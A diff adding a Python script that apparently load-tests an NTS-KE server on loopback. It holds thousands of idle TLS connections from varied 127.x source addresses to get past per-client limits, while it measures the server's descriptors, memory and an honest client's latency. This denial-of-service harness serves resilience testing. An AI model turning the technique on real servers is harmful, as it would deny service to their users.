@@ -1,0 +1,179 @@
+# SPDX-License-Identifier: Apache-2.0
+"""Hostile NTS-KE clients on loopback, and what they do to a server: clients from many
+127.0.0.0/8 addresses that complete TLS 1.3, send a valid request (or nothing) and then never
+read nor close, while one honest client keeps establishing keys beside them. Samples the
+server's open descriptors and RSS throughout and after; the honest client's latencies.
+
+As a script, against a running server (its PID, its KE port):
+
+    ./nts_ke_attack.py PID PORT [--clients 3000] [--workers 2] [--silent]
+"""
+
+import argparse
+import json
+import multiprocessing
+import os
+import resource
+import socket
+import ssl
+import struct
+import threading
+import time
+
+
+def record(kind, body, critical=True):
+    return struct.pack(">HH", kind | (0x8000 if critical else 0), len(body)) + body
+
+
+GOOD_REQUEST = record(1, b"\x00\x00") + record(4, b"\x00\x0f") + record(0, b"")
+
+
+def client_context():
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    context.minimum_version = ssl.TLSVersion.TLSv1_3
+    context.set_alpn_protocols(["ntske/1"])
+    return context
+
+
+def source_address(worker, index):
+    """A distinct loopback address per connection: the per-client limit never applies."""
+    n = worker * 1_000_000 + index + 1
+    return f"127.{100 + (n >> 16) % 100}.{(n >> 8) & 255}.{n & 255 or 1}"
+
+
+def attacker(port, worker, count, silent, ready, release):
+    """Opens `count` connections, each answered (or silent after the handshake), and keeps
+    them until `release` is set; never reads. Puts how many it made on `ready`."""
+    resource.setrlimit(resource.RLIMIT_NOFILE, (count + 64, count + 64))
+    context = client_context()
+    held, failed = [], 0
+    for i in range(count):
+        raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        try:
+            raw.bind((source_address(worker, i), 0))
+            raw.settimeout(5)
+            raw.connect(("127.0.0.1", port))
+            tls = context.wrap_socket(raw)
+            if not silent:
+                tls.sendall(GOOD_REQUEST)
+            held.append(tls)
+        except OSError:
+            failed += 1
+            raw.close()
+    ready.put((len(held), failed))
+    release.wait(120)
+    for s in held:
+        s.close()
+
+
+def honest_exchange(port, timeout=5.0):
+    """One whole key establishment; its seconds, or None when it failed."""
+    start = time.monotonic()
+    try:
+        with socket.create_connection(("127.0.0.1", port), timeout=timeout) as raw:
+            with client_context().wrap_socket(raw) as tls:
+                tls.sendall(GOOD_REQUEST)
+                data = b""
+                while True:
+                    chunk = tls.recv(4096)
+                    if not chunk:
+                        break
+                    data += chunk
+    except (OSError, ssl.SSLError):
+        return None
+    # Eight cookies, then End of Message.
+    return time.monotonic() - start if data.count(b"\x00\x05\x00\x64") == 8 else None
+
+
+def fd_count(pid):
+    return len(os.listdir(f"/proc/{pid}/fd"))
+
+
+def rss_kib(pid):
+    with open(f"/proc/{pid}/status") as f:
+        for line in f:
+            if line.startswith("VmRSS:"):
+                return int(line.split()[1])
+    return 0
+
+
+def percentile(values, p):
+    ordered = sorted(values)
+    return ordered[min(len(ordered) - 1, int(len(ordered) * p / 100))] if ordered else None
+
+
+def attack(pid, port, clients=3000, workers=2, silent=False, after_s=3.0):
+    """Runs the attack against the server `pid` serving NTS-KE on 127.0.0.1:`port`; returns
+    the figures: peak descriptors and RSS during, both after the clients are gone, the honest
+    client's latencies (p50, p99, failures) during, how many attacking connections were made."""
+    before = {"fds": fd_count(pid), "rss_kib": rss_kib(pid)}
+    samples, latencies, failures = [], [], [0]
+    stop = threading.Event()
+
+    def sample():
+        while not stop.is_set():
+            try:
+                samples.append((fd_count(pid), rss_kib(pid)))
+            except OSError:
+                return
+            time.sleep(0.05)
+
+    def honest():
+        while not stop.is_set():
+            took = honest_exchange(port)
+            if took is None:
+                failures[0] += 1
+            else:
+                latencies.append(took)
+            time.sleep(0.05)
+
+    threads = [threading.Thread(target=sample), threading.Thread(target=honest)]
+    for t in threads:
+        t.start()
+    ctx = multiprocessing.get_context("fork")
+    ready, release = ctx.Queue(), ctx.Event()
+    procs = [ctx.Process(target=attacker,
+                         args=(port, w, clients // workers, silent, ready, release))
+             for w in range(workers)]
+    for p in procs:
+        p.start()
+    made = [ready.get(timeout=600) for _ in procs]
+    time.sleep(1.0)  # the connections sit
+    release.set()
+    for p in procs:
+        p.join(60)
+    stop.set()
+    for t in threads:
+        t.join()
+    time.sleep(after_s)  # the server lets go
+    during_fds = max(s[0] for s in samples) if samples else 0
+    during_rss = max(s[1] for s in samples) if samples else 0
+    return {
+        "before": before,
+        "made": sum(m[0] for m in made),
+        "refused": sum(m[1] for m in made),
+        "peak_fds": during_fds,
+        "peak_rss_kib": during_rss,
+        "after": {"fds": fd_count(pid), "rss_kib": rss_kib(pid)},
+        "honest": {"count": len(latencies), "failed": failures[0],
+                   "p50_s": percentile(latencies, 50), "p99_s": percentile(latencies, 99)},
+    }
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("pid", type=int)
+    parser.add_argument("port", type=int)
+    parser.add_argument("--clients", type=int, default=3000)
+    parser.add_argument("--workers", type=int, default=2)
+    parser.add_argument("--silent", action="store_true",
+                        help="send nothing after the handshake (instead of a valid request)")
+    args = parser.parse_args()
+    print(json.dumps(attack(args.pid, args.port, args.clients, args.workers, args.silent),
+                     indent=1))
+
+
+if __name__ == "__main__":
+    main()
